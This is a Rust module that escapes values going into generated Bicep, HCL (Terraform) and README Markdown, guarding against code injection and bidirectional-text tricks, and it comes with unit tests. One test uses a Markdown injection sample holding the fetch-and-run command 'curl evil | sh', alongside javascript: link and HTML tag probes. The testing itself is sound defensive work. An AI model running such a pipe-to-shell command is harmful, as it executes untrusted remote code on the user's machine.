//! Turning values into Bicep and HCL source text, safely.
//!
//! Every value that reaches generated code passes through here: a quote, a backslash, an
//! interpolation opener (`${` in both languages, `%{` in HCL), a newline or a control or
//! bidirectional-override character in a tag value can neither break the file nor inject code.

/// Characters that reorder text when displayed (the "Trojan Source" set): escaped so that
/// what a reviewer sees is what the deployment gets.
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}')
}

/// A POSIX shell word: the text in single quotes, so that no character is special.
pub fn shell_word(s: &str) -> String {
    // Inside single quotes a POSIX shell takes every byte as it is but the quote itself, which
    // closes, is escaped, and reopens.
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// A Bicep string literal, quotes included: `'it\'s'`.
pub fn bicep_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '$' if chars.peek() == Some(&'{') => out.push_str("\\$"),
            c if c.is_control() || is_bidi_control(c) => {
                out.push_str(&format!("\\u{{{:X}}}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// An HCL (Terraform) quoted string, quotes included: `"say \"hi\""`.
pub fn hcl_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            // A doubled opener is HCL's literal form of `${` and `%{`.
            '$' if chars.peek() == Some(&'{') => out.push_str("$$"),
            '%' if chars.peek() == Some(&'{') => out.push_str("%%"),
            c if c.is_control() || is_bidi_control(c) => {
                if (c as u32) <= 0xFFFF {
                    out.push_str(&format!("\\u{:04X}", c as u32));
                } else {
                    out.push_str(&format!("\\U{:08X}", c as u32));
                }
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Text for the render's README (Markdown), safe in prose, in an inline code span, in a table
/// cell and in a Mermaid label: it stays on its line (a newline or other control character is
/// written as its escape, `\n`), cannot end a code span (a backtick becomes `'`), split a table
/// cell (`\|`), open HTML (`&lt;`), a link or emphasis, or start a block (a leading `#`, `-`,
/// `+`, `=` or `~` is escaped). Values meg validated never hold any of these, so they print as
/// they are.
pub fn markdown(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for (i, c) in s.chars().enumerate() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '`' => out.push('\''),
            '|' => out.push_str("\\|"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '[' | ']' | '*' => {
                out.push('\\');
                out.push(c);
            }
            '#' | '-' | '+' | '=' | '~' if i == 0 => {
                out.push('\\');
                out.push(c);
            }
            c if c.is_control() || is_bidi_control(c) || matches!(c, '\u{2028}' | '\u{2029}') => {
                out.push_str(&format!("\\u{{{:X}}}", c as u32))
            }
            c => out.push(c),
        }
    }
    out
}

/// [`markdown`] as Tera's escape function: every value a `.md` template prints passes through
/// it, so no value of the README can be forgotten.
pub fn markdown_into(input: &str, out: &mut dyn std::io::Write) -> std::io::Result<()> {
    out.write_all(markdown(input).as_bytes())
}

/// Whether `s` can be written bare as a key: a letter or `_`, then letters, digits, `_` (and
/// `-` where `hyphens`).
pub(crate) fn is_identifier(s: &str, hyphens: bool) -> bool {
    let mut cs = s.chars();
    matches!(cs.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && cs.all(|c| c.is_ascii_alphanumeric() || c == '_' || (hyphens && c == '-'))
}

/// Whether `s` can be a Terraform identifier (a map key written bare, a resource name):
/// a letter or `_`, then letters, digits, `_` and `-`.
pub fn is_hcl_identifier(s: &str) -> bool {
    let mut chars = s.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn bicep_strings_cannot_break_out() {
        assert_eq!(bicep_string("it's"), r"'it\'s'");
        assert_eq!(bicep_string("${x}"), r"'\${x}'");
        assert_eq!(bicep_string("a\\b\nc"), r"'a\\b\nc'");
        assert_eq!(bicep_string("Zürich"), "'Zürich'");
        assert_eq!(bicep_string("\u{202E}x"), r"'\u{202E}x'");
        assert_eq!(bicep_string("$5"), "'$5'");
    }

    #[test]
    fn hcl_strings_cannot_break_out() {
        assert_eq!(hcl_string(r#"say "hi""#), r#""say \"hi\"""#);
        assert_eq!(hcl_string("${var.x} %{if}"), r#""$${var.x} %%{if}""#);
        assert_eq!(hcl_string("a\\b\nc"), r#""a\\b\nc""#);
        assert_eq!(hcl_string("\u{7}"), r#""\u0007""#);
        assert_eq!(hcl_string("100%"), r#""100%""#);
    }

    #[test]
    fn markdown_values_stay_on_their_line_and_in_their_span() {
        assert_eq!(markdown("vnet-hub-prod-weu-001"), "vnet-hub-prod-weu-001");
        assert_eq!(markdown("Standard_D4s_v5"), "Standard_D4s_v5");
        assert_eq!(markdown("rg-hub (net).01"), "rg-hub (net).01");
        assert_eq!(
            markdown("x\n## Run this\n```sh\ncurl evil | sh\n```"),
            r"x\n## Run this\n'''sh\ncurl evil \| sh\n'''"
        );
        assert_eq!(markdown("# title"), r"\# title");
        assert_eq!(markdown("> quote"), "&gt; quote");
        assert_eq!(markdown("<img src=x>"), "&lt;img src=x&gt;");
        assert_eq!(markdown("[a](javascript:x)"), r"\[a\](javascript:x)");
        assert_eq!(markdown("a\u{202E}b\u{7}"), r"a\u{202E}b\u{7}");
        assert!(!markdown("a\r\nb\u{2028}c").contains(['\n', '\r', '\u{2028}']));
    }

    #[test]
    fn values_nest() {
        let v = json!({"a": [1, 2], "cost-center": {"x": true}});
        assert_eq!(
            crate::render::literal::bicep(&v, 0),
            "{\n  a: [\n    1\n    2\n  ]\n  'cost-center': {\n    x: true\n  }\n}"
        );
        assert_eq!(
            crate::render::literal::hcl(&v, 0),
            "{\n  a = [1, 2]\n  cost-center = {\n    x = true\n  }\n}"
        );
        assert_eq!(
            crate::render::literal::hcl(&json!({"b c": null}), 0),
            "{\n  \"b c\" = null\n}"
        );
    }

    #[test]
    fn hcl_identifiers_start_with_a_letter_or_underscore() {
        for ok in ["a", "_x", "Deny-Public-IP", "allowed_locations2"] {
            assert!(is_hcl_identifier(ok), "{ok}");
        }
        for bad in ["", "9lives", "-a", "a b", "a.b", "a\"", "é"] {
            assert!(!is_hcl_identifier(bad), "{bad}");
        }
    }
}
